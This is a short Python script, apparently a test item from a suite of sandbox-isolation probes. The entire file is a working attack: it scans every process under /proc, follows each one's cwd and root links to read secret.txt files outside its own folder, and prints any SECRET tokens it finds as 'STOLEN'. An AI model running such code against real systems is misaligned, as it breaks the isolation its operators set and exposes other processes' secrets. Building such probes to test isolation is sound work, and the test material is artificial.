# tries: reach the course through the working folder and the root of other processes
# kind: read
# honest: 6
# stock: as walks_up_from_here

# %% before first
import os
import re
from pathlib import Path

found = set()
for pid in [pid for pid in os.listdir("/proc") if pid.isdigit()]:
    for link in ("cwd", "root"):
        for name in ("secret.txt", "course/secret.txt", "../secret.txt", "../course/secret.txt"):
            try:
                text = Path(f"/proc/{pid}", link, name).read_text()
            except OSError:
                continue
            found |= set(re.findall("SECRET-[A-Z]+-[0-9a-f]{16}", text))
print("STOLEN<", found, ">STOLEN")
